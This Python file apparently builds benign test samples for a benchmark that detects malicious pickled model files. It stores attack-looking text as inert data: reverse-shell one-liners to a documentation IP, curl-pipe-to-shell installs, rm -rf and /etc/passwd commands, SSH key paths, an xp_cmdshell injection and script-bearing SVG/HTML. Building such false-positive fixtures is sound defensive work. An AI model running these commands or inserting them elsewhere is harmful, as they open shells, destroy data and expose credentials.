"""Ordinary files that are full of text: vocabularies, documents, sources, commands, addresses, pictures in base64.

A text runs nothing: however much of it looks like an attack's, nothing in these files would run it.
"""

from __future__ import annotations

import base64
import gzip
import io
import json
import pickle
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np

from bench.detection.sample import Part, Sample
from tests.malicious.pickles import FLOATS, archive, tensor

_SOURCE = "what trainers, tokenizers and data sets keep beside weights"
_README = """# A model

    pip install acme-model && python -m acme.serve --host 0.0.0.0 --port 8080
    curl -sSL https://get.acme.example/install.sh | sh
    docker run --rm -v ~/.cache/huggingface:/root/.cache acme/model bash -c "nvidia-smi"
    rm -rf /tmp/acme && chmod +x run.sh && ./run.sh

Never write `exec(base64.b64decode(blob))`; a reverse shell such as `bash -i >& /dev/tcp/203.0.113.7/4444 0>&1` or
`nc -e /bin/sh 203.0.113.7 4444` in a data set is what this model finds.
See https://acme.example/docs and ~/.ssh/config.
"""
_MODULE = '''"""Trains."""
import os
import subprocess
import sys


def main():
    """Starts the workers."""
    commit = subprocess.check_output(["git", "rev-parse", "HEAD"]).decode()
    os.system("nvidia-smi")
    if len(sys.argv) > 1 and eval(sys.argv[1]):
        exec(open("config.py").read(), globals())
    return commit


if __name__ == "__main__":
    main()
'''
_TRACEBACK = (
    'Traceback (most recent call last):\n  File "/home/user/train.py", line 3, in <module>\n    eval(line)\nNameError'
)
_PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)
_SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>eval(document.title)</script><path d="M0 0"/></svg>'
_HTML = (
    "<html><script src='https://cdn.acme.example/a.js'></script><body onload=\"eval('x')\">10.0.0.17:8080</body></html>"
)
_TOKENS = [
    "import",
    "\u0120os",
    "os.system(",
    "eval(",
    "exec(",
    "subprocess.Popen(",
    "__import__",
    "http://",
    "https://www.",
    "#!/bin/bash",
    "rm -rf",
    "curl -s",
    "/etc/passwd",
    "~/.ssh/",
    "base64.b64decode(",
    "/bin/sh -c",
    "| sh",
]
_COMMANDS = [
    "find . -name '*.py' | xargs rm -rf",
    "ssh user@10.11.12.13 'sudo reboot'",
    "crontab -l",
    "wget -qO- https://acme.example/x.tar.gz | tar xz",
    "curl -s https://acme.example/setup.sh | sudo bash",
    "cat /etc/passwd | cut -d: -f1",
    "nc -lvp 4444",
    "bash -c 'echo hi'",
]
_PLACES = {
    "resume": "/home/user/.cache/torch/hub/ckpt.pt",
    "rc": "~/.bashrc",
    "key": "~/.ssh/id_rsa",
    "cron": "/etc/cron.d/backup",
    "init": "tcp://10.1.2.3:23456",
    "master_addr": "192.168.10.20",
    "store": "s3://acme/models",
    "v6": "[2001:db8::1]:29500",
}
_NUMBERS = np.random.default_rng(7)


def _notebook() -> str:
    picture = base64.b64encode(_PNG).decode()
    cell = {"cell_type": "code", "source": ["!pip install acme\n", "%%bash\n", "curl -s https://acme.example | sh\n"]}
    output = {"data": {"image/png": picture, "text/html": _HTML}, "output_type": "display_data"}
    return json.dumps({"cells": [cell | {"outputs": [output]}], "nbformat": 4})


def _generator() -> dict[str, Any]:
    return np.random.default_rng(5).bit_generator.state  # type: ignore[return-value]


_VALUES: dict[str, Callable[[], Any]] = {
    "vocabulary": lambda: {
        token: at for at, token in enumerate([*_TOKENS, *(f"{a}{b}" for a in _TOKENS for b in _TOKENS)])
    },
    "merges": lambda: [f"{left} {right}" for left in _TOKENS for right in _TOKENS],
    "readme": lambda: {"model_card": _README, "license": "See https://www.apache.org/licenses/LICENSE-2.0.\n" * 40},
    "long_readme": lambda: _README * 30,
    "sources": lambda: [_MODULE, _MODULE * 20, "print('hello')\n"],
    "source_snapshot": lambda: {
        "train.py": zlib.compress((_MODULE + "# a line of the trainer's own\n" * 100).encode())
    },
    "log_compressed": lambda: gzip.compress(b"2024-01-02 03:04:05 loss 0.5 http://10.1.2.3:6006/\n" * 60, mtime=0),
    "traceback": lambda: {"error": _TRACEBACK, "warnings": [_TRACEBACK] * 3},
    "notebook": _notebook,
    "configurations": lambda: {
        "model": {"_target_": "torch.nn.Linear", "in_features": 3, "out_features": 2},
        "logger": {"class_path": "pytorch_lightning.loggers.WandbLogger", "init_args": {"project": "x"}},
        "params": {"target": "ldm.models.diffusion.ddpm.LatentDiffusion", "type": "collections.OrderedDict"},
        "yaml": "path: !!python/object/apply:pathlib.PosixPath [data]\nopt: {_target_: torch.optim.AdamW, lr: 0.1}\n",
    },
    "templates": lambda: {
        "chat_template": "{%- if messages[0]['role'] == 'system' %}{{ messages[0]['content']|trim }}{%- endif %}"
        "{%- for m in messages[1:] %}{{ '<|' + m['role'] + '|>' ~ (m.content.split('</think>')[-1]) }}"
        "{%- if loop.index0 == (messages|length) - 1 %}{{ messages[(messages|length) - 1].role }}{%- endif %}"
        "{%- endfor %}{{ tools|map(attribute='name')|join(', ') }}{{ t|tojson(indent=4) }}{{ raise_exception('x') }}"
    },
    "pages": lambda: [_HTML, _SVG.decode(), "SELECT * FROM users WHERE name = 'x'; EXEC xp_cmdshell('dir');"],
    "commands": lambda: {"prompts": [f"run {line}" for line in _COMMANDS], "commands": _COMMANDS},
    "attack_strings": lambda: {
        "labels": [1, 1],
        "texts": ["bash -i >& /dev/tcp/203.0.113.7/4444 0>&1", "nc -e /bin/sh 203.0.113.7 4444"],
    },
    "pictures": lambda: [
        f"data:image/png;base64,{base64.b64encode(_PNG).decode()}",
        _PNG,
        base64.b64encode(_SVG).decode(),
    ],
    "tokens_of_the_web": lambda: {
        "jwt": "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwiaWF0IjoxNTE2MjM5MDIyfQ.c2lnbmF0dXJl",
        "etag": "d41d8cd98f00b204e9800998ecf8427e",
    },
    "arguments": lambda: {
        **_PLACES,
        "argv": ["train.py", "--exec", "bash -c 'python train.py'"],
        "versions": ["1.13.1.4", "2.0.0.1"],
    },
    "digests": lambda: {f"layer{at}": bytes(range(at, at + 32)).hex() for at in range(50)},
    "random_bytes": lambda: [_numbers(at).bytes(3000) for at in range(40)],
    "random_base64": lambda: [base64.b64encode(_numbers(at).bytes(3000)).decode() for at in range(40)],
    "generators": _generator,
    "quantised": lambda: [_numbers(at).integers(0, 256, 2000).astype("u1").tobytes() for at in range(20)],
    "masks": lambda: [bytes([value] * 400 + [0] * 400 + [115] * 20) for value in (99, 227, 0x7F, 0x80)],
    "nested": lambda: [pickle.dumps({"step": 3, "w": [0.5, 1.5]}, 4), pickle.dumps(np.zeros(3), 4)],
    "json": lambda: json.dumps({"auto_map": {}, "config": _PLACES, "text": _README}),
    "sentences": lambda: [
        "(in the\nbeginning was\nthe word",
        "call me\nIshmael\n. Some years ago",
        "import duties rose; the system (tax) changed.",
    ],
}


def _numbers(seed: int) -> np.random.Generator:
    return np.random.default_rng(seed)


def _build(value: Callable[[], Any], protocol: int) -> Callable[[Path], object]:
    def build(path: Path) -> None:
        out = io.BytesIO()
        pickle.Pickler(out, protocol).dump({"weight": [0.5, 1.5], "beside": value()})
        path.write_bytes(out.getvalue())

    return build


def _in_archive(value: Callable[[], Any]) -> Callable[[Path], object]:
    def build(path: Path) -> None:
        archive({"weight": tensor("0", (2, 3), (3, 1), 6), "beside": value()}, {"0": FLOATS}, path)

    return build


def _sample(name: str, file: str, build: Callable[[Path], object]) -> Sample:
    return Sample(
        f"texts_{name}", Part.BENIGN, f"text that runs nothing: {name.replace('_', ' ')}", _SOURCE, file, build
    )


_ARCHIVED = ("vocabulary", "readme", "commands", "arguments", "notebook")
SAMPLES = (
    *(_sample(name, "model.pkl", _build(value, 4)) for name, value in _VALUES.items()),
    *(_sample(f"{name}_archive", "model.pt", _in_archive(_VALUES[name])) for name in _ARCHIVED),
    *(
        _sample(f"{name}_old", "model.pkl", _build(_VALUES[name], 2))
        for name in ("pictures", "random_bytes", "masks", "nested")
    ),
)
